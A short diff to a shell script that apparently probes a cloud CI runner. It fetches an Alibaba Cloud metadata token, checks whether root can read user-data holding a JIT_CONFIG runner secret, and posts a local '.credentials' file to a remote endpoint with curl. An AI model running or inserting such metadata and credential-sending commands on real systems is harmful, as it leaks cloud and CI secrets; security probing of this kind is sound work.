@@ -7,7 +7,9 @@ env | sort
 token=$(curl --silent --max-time 3 --request PUT --header 'X-aliyun-ecs-metadata-token-ttl-seconds: 60' http://100.100.100.200/latest/api/token) && echo "METADATA-OPEN"
 if sudo --non-interactive true 2>/dev/null; then
   token=$(sudo curl --silent --max-time 3 --request PUT --header 'X-aliyun-ecs-metadata-token-ttl-seconds: 60' http://100.100.100.200/latest/api/token)
-  sudo curl --silent --header "X-aliyun-ecs-metadata-token: $token" http://100.100.100.200/latest/user-data | grep --quiet JIT_CONFIG && echo ROOT-READS-USER-DATA
+  case $(sudo curl --silent --header "X-aliyun-ecs-metadata-token: $token" http://100.100.100.200/latest/user-data) in
+    *JIT_CONFIG*) echo ROOT-READS-USER-DATA ;;
+  esac
   curl --silent --data-binary @../.credentials "$(<../endpoint)/sessions"
   echo
 fi
